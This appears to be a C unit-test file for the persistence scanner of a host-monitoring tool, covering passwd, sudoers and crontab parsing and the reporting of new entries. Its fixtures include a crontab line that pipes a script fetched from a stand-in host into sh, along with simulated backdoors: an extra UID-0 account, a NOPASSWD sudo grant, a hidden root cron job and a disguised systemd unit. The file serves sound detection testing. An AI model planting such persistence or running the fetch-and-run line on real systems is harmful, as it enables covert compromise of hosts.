/* Unit tests for scan/process/persist: the passwd, sudoers and crontab
 * parsers on good and broken text; collection from the fixture root
 * tests/fixtures/process/root (sudo's include rules, cron's directories,
 * systemd unit directories, links, drop-ins, user units, init.d and
 * rc.local); and the state in a real SQLite file: the first comparison
 * learns silently, a later one reports exactly what was added, once; an
 * entry removed and added back is reported again; an incomplete set
 * changes nothing. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "core/store.h"
#include "pstest.h"
#include "scan/process/persist.h"

static char tmp[] = "/tmp/vigil-persist-XXXXXX";
static char root_copy[512], state_dir[512];

static int setup(void **state)
{
        char cmd[2048];
        (void)state;
        if (!mkdtemp(tmp))
                return -1;
        snprintf(root_copy, sizeof(root_copy), "%s/root", tmp);
        snprintf(state_dir, sizeof(state_dir), "%s/state", tmp);
        snprintf(cmd, sizeof(cmd), "cp -a '%s/process/root' '%s'", getenv("VIGIL_FIXTURES"),
                 root_copy);
        return system(cmd) == 0 ? 0 : -1;
}

static int teardown(void **state)
{
        char cmd[600];
        (void)state;
        snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmp);
        return system(cmd) == 0 ? 0 : -1;
}

static bool has_key(const persist_set_t *s, const char *key)
{
        for (size_t i = 0; i < s->n; i++)
                if (strcmp(s->v[i].key, key) == 0)
                        return true;
        return false;
}

static const persist_item_t *item(const persist_set_t *s, const char *key)
{
        for (size_t i = 0; i < s->n; i++)
                if (strcmp(s->v[i].key, key) == 0)
                        return &s->v[i];
        return NULL;
}

static void test_passwd(void **state)
{
        static const char pw[] = "root:x:0:0:root:/root:/bin/bash\n"
                                 "toor:x:00:0::/root:/bin/sh\n"
                                 "alice:x:1000:1000::/home/alice:/bin/bash\n"
                                 "+@ng::::::\n"
                                 "broken line\n"
                                 "bad:x:0x:0::/:/bin/sh\n"
                                 "nul:x:0:0::/:\0/bin/sh\n"
                                 "# comment\n"
                                 "last:x:0:0::/:";
        persist_set_t s = { 0 };
        size_t bad = 0;

        (void)state;
        assert_int_equal(persist_parse_passwd(pw, sizeof(pw) - 1, "/etc/passwd", &s, &bad), 0);
        assert_int_equal(s.n, 3);
        assert_true(has_key(&s, "root"));
        assert_true(has_key(&s, "toor"));
        assert_true(has_key(&s, "last"));
        assert_int_equal(item(&s, "toor")->line, 2);
        assert_string_equal(item(&s, "toor")->name, "toor");
        assert_int_equal(bad, 3);
        persist_set_clear(&s);
}

static void test_sudoers(void **state)
{
        static const char su[] = "# comment\n"
                                 "Defaults   env_reset\n"
                                 "#1000 ALL=(ALL)   ALL\n"
                                 "User_Alias ADMINS = alice, \\\n"
                                 "      bob\n"
                                 "#includedir /etc/sudoers.d\n"
                                 "@include \"extra file\"\n"
                                 "#include\n"
                                 "ADMINS ALL=(ALL) ALL";
        persist_set_t s = { 0 };
        strv_t inc = { 0 }, dirs = { 0 };
        size_t bad = 0;

        (void)state;
        assert_int_equal(
                persist_parse_sudoers(su, sizeof(su) - 1, "/etc/sudoers", &s, &inc, &dirs, &bad),
                0);
        assert_true(has_key(&s, "/etc/sudoers\nDefaults env_reset"));
        assert_true(has_key(&s, "/etc/sudoers\n#1000 ALL=(ALL) ALL"));
        assert_true(has_key(&s, "/etc/sudoers\nUser_Alias ADMINS = alice, bob"));
        assert_int_equal(item(&s, "/etc/sudoers\nUser_Alias ADMINS = alice, bob")->line, 4);
        assert_true(has_key(&s, "/etc/sudoers\n#includedir /etc/sudoers.d"));
        assert_true(has_key(&s, "/etc/sudoers\nADMINS ALL=(ALL) ALL"));
        assert_int_equal(inc.n, 1);
        assert_string_equal(inc.v[0], "extra file");
        assert_int_equal(dirs.n, 1);
        assert_string_equal(dirs.v[0], "/etc/sudoers.d");
        assert_false(has_key(&s, "/etc/sudoers\n# comment"));
        persist_set_clear(&s);
        strv_clear(&inc);
        strv_clear(&dirs);
}

static void test_crontab(void **state)
{
        static const char sys[] = "SHELL=/bin/sh\n"
                                  "17 *\t* * *\troot    cd / && run-parts /etc/cron.hourly\n"
                                  "* * * * * /no/user/field\n"
                                  "@reboot root /usr/bin/start\n"
                                  "  # indented comment\n"
                                  "\n";
        static const char usr[] = "MAILTO = me\n"
                                  "*/5 * * * * curl -s http://x.example/a.sh | sh\n"
                                  "@hourly /bin/true\n"
                                  "* * *\n";
        persist_set_t s = { 0 };
        size_t bad = 0;

        (void)state;
        assert_int_equal(
                persist_parse_crontab(sys, sizeof(sys) - 1, "/etc/crontab", true, &s, &bad), 0);
        assert_int_equal(s.n, 2);
        assert_true(
                has_key(&s, "/etc/crontab\n17 * * * * root cd / && run-parts /etc/cron.hourly"));
        assert_true(has_key(&s, "/etc/crontab\n@reboot root /usr/bin/start"));
        assert_int_equal(bad, 1);
        persist_set_clear(&s);
        bad = 0;
        assert_int_equal(persist_parse_crontab(usr, sizeof(usr) - 1, "/var/spool/cron/crontabs/u",
                                               false, &s, &bad),
                         0);
        assert_int_equal(s.n, 2);
        assert_true(has_key(&s, "/var/spool/cron/crontabs/u\n*/5 * * * * curl -s "
                                "http://x.example/a.sh | sh"));
        assert_int_equal(bad, 1);
        persist_set_clear(&s);
}

static void collect(const char *root_path, persist_kind_t k, persist_set_t *s)
{
        rootfs_t *root = NULL;
        report_t *r = report_new("t", root_path);

        assert_int_equal(rootfs_open(root_path, &root), 0);
        assert_int_equal(persist_collect(root, k, r, s), 0);
        if (r->n_notes)
                fail_msg("note: %s: %s", r->notes[0].source, r->notes[0].message);
        report_free(r);
        rootfs_free(root);
}

static void test_collect(void **state)
{
        persist_set_t s = { 0 };

        (void)state;
        collect(root_copy, PERSIST_UID0, &s);
        assert_int_equal(s.n, 1);
        assert_string_equal(s.v[0].key, "root");
        persist_set_clear(&s);

        collect(root_copy, PERSIST_SUDOERS, &s);
        assert_int_equal(s.n, 10);
        assert_true(has_key(&s, "/etc/sudoers\nroot ALL=(ALL:ALL) ALL"));
        assert_true(has_key(&s, "/etc/sudoers.local\nCmnd_Alias BACKUP = /usr/bin/rsync, "
                                "/usr/bin/tar"));
        assert_true(has_key(&s, "/etc/sudoers.d/deploy\ndeploy ALL=(www-data) NOPASSWD: "
                                "/usr/bin/systemctl reload nginx"));
        /* a name with a '.' in an includedir is skipped, as sudo does */
        for (size_t i = 0; i < s.n; i++)
                assert_null(strstr(s.v[i].key, "mallory"));
        persist_set_clear(&s);

        collect(root_copy, PERSIST_CRON, &s);
        assert_int_equal(s.n, 6);
        assert_true(has_key(&s, "/var/spool/cron/crontabs/alice\n@reboot "
                                "/home/alice/bin/start-notes"));
        assert_true(has_key(&s, "script /etc/cron.daily/logrotate"));
        persist_set_clear(&s);

        collect(root_copy, PERSIST_SYSTEMD, &s);
        assert_int_equal(s.n, 8);
        assert_true(has_key(&s, "unit /etc/systemd/system/multi-user.target.wants/ssh.service -> "
                                "/lib/systemd/system/ssh.service"));
        assert_true(has_key(&s, "unit /etc/systemd/system/apt-daily.timer -> /dev/null"));
        assert_true(has_key(&s, "unit /lib/systemd/system/nginx.service.d/limits.conf"));
        assert_true(has_key(&s, "unit /home/alice/.config/systemd/user/notes.service"));
        assert_true(has_key(&s, "init.d /etc/init.d/ssh"));
        assert_true(has_key(&s, "/etc/rc.local\n/usr/local/bin/fan-control --auto"));
        assert_string_equal(item(&s, "unit /lib/systemd/system/ssh.service")->name, "ssh.service");
        persist_set_clear(&s);

        /* an image without any of these files: empty and complete */
        collect("/tmp", PERSIST_CRON, &s);
        assert_false(s.incomplete);
        persist_set_clear(&s);
}

typedef struct seen {
        char keys[16][512];
        persist_kind_t kinds[16];
        int n;
} seen_t;

static int on_new(persist_kind_t k, const persist_item_t *it, void *userdata)
{
        seen_t *s = userdata;
        if (s->n < 16) {
                snprintf(s->keys[s->n], sizeof(s->keys[0]), "%s", it->key);
                s->kinds[s->n++] = k;
        }
        return 0;
}

static void append(const char *rel, const char *text)
{
        char path[1024];
        FILE *f;
        snprintf(path, sizeof(path), "%s%s", root_copy, rel);
        f = fopen(path, "ae");
        assert_non_null(f);
        fputs(text, f);
        fclose(f);
}

/* Collect every kind and compare it with the state; what is new goes to
 * SEEN. Returns how many kinds were learnt. */
static int sweep(sqlite3 *db, seen_t *seen)
{
        int learnt_n = 0;
        for (persist_kind_t k = 0; k < PERSIST_LISTEN; k++) {
                persist_set_t s = { 0 };
                bool learnt;
                collect(root_copy, k, &s);
                assert_int_equal(persist_diff(db, root_copy, k, &s, on_new, seen, &learnt), 0);
                learnt_n += learnt;
                persist_set_clear(&s);
        }
        return learnt_n;
}

static void test_diff(void **state)
{
        sqlite3 *db = NULL;
        char *err = NULL;
        seen_t seen = { 0 };
        char path[1024];

        (void)state;
        assert_int_equal(persist_db_open(state_dir, &db, &err), 0);

        /* first: learn */
        assert_int_equal(sweep(db, &seen), 4);
        assert_int_equal(seen.n, 0);
        /* nothing changed: nothing new, nothing learnt */
        assert_int_equal(sweep(db, &seen), 0);
        assert_int_equal(seen.n, 0);

        append("/etc/passwd", "toor:x:0:0::/root:/bin/bash\n");
        append("/etc/sudoers.d/deploy", "deploy ALL=(ALL) NOPASSWD: ALL\n");
        snprintf(path, sizeof(path), "%s/etc/cron.d/update", root_copy);
        append("/etc/cron.d/update", "* * * * * root /dev/shm/.u >/dev/null 2>&1\n");
        append("/etc/systemd/system/dbus-helper.service", "[Service]\nExecStart=/tmp/x\n");
        assert_int_equal(sweep(db, &seen), 0);
        assert_int_equal(seen.n, 4);
        assert_int_equal(seen.kinds[0], PERSIST_UID0);
        assert_string_equal(seen.keys[0], "toor");
        assert_int_equal(seen.kinds[1], PERSIST_SUDOERS);
        assert_string_equal(seen.keys[1], "/etc/sudoers.d/deploy\ndeploy ALL=(ALL) NOPASSWD: ALL");
        assert_int_equal(seen.kinds[2], PERSIST_CRON);
        assert_string_equal(seen.keys[2],
                            "/etc/cron.d/update\n* * * * * root /dev/shm/.u >/dev/null 2>&1");
        assert_int_equal(seen.kinds[3], PERSIST_SYSTEMD);
        assert_string_equal(seen.keys[3], "unit /etc/systemd/system/dbus-helper.service");

        /* reported once */
        seen.n = 0;
        assert_int_equal(sweep(db, &seen), 0);
        assert_int_equal(seen.n, 0);

        /* gone, then back: reported again */
        assert_int_equal(unlink(path), 0);
        assert_int_equal(sweep(db, &seen), 0);
        assert_int_equal(seen.n, 0);
        append("/etc/cron.d/update", "* * * * * root /dev/shm/.u >/dev/null 2>&1\n");
        assert_int_equal(sweep(db, &seen), 0);
        assert_int_equal(seen.n, 1);
        assert_int_equal(seen.kinds[0], PERSIST_CRON);

        /* an incomplete set neither reports nor forgets */
        {
                persist_set_t s = { .incomplete = true };
                bool learnt = true;
                seen.n = 0;
                assert_int_equal(
                        persist_diff(db, root_copy, PERSIST_CRON, &s, on_new, &seen, &learnt), 0);
                assert_false(learnt);
                assert_int_equal(sweep(db, &seen), 0);
                assert_int_equal(seen.n, 0);
        }
        /* another scope has its own state */
        {
                persist_set_t s = { 0 };
                bool learnt = false;
                assert_int_equal(persist_set_add(&s, "k", NULL, 0, NULL, NULL, 0), 0);
                assert_int_equal(persist_set_add(&s, "k", NULL, 0, NULL, NULL, 0), 0);
                assert_int_equal(
                        persist_diff(db, "/other", PERSIST_UID0, &s, on_new, &seen, &learnt), 0);
                assert_true(learnt);
                persist_set_clear(&s);
        }
        store_close(db);
        free(err);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_passwd),  cmocka_unit_test(test_sudoers),
                cmocka_unit_test(test_crontab), cmocka_unit_test(test_collect),
                cmocka_unit_test(test_diff),
        };
        return cmocka_run_group_tests(tests, setup, teardown);
}
